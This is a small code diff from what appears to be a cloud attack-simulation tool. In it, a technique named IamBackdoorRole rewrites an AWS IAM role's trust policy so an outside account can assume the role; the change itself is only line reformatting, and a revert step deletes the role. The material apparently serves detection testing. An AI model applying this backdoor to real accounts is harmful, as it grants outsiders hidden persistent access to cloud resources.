@@ -26,7 +26,9 @@ class IamBackdoorRole(Technique):
 
     def detonate(self, ctx: Ctx, state: Json) -> None:
         doc = trust(EC2, {"AWS": f"arn:aws:iam::{OUTSIDE_ACCOUNT}:root"})
-        client("iam", session=ctx.attacker()).update_assume_role_policy(RoleName=state["role"], PolicyDocument=doc)
+        client("iam", session=ctx.attacker()).update_assume_role_policy(
+            RoleName=state["role"], PolicyDocument=doc
+        )
 
     def revert(self, ctx: Ctx, state: Json) -> None:
         delete_role(ctx, state["role"])
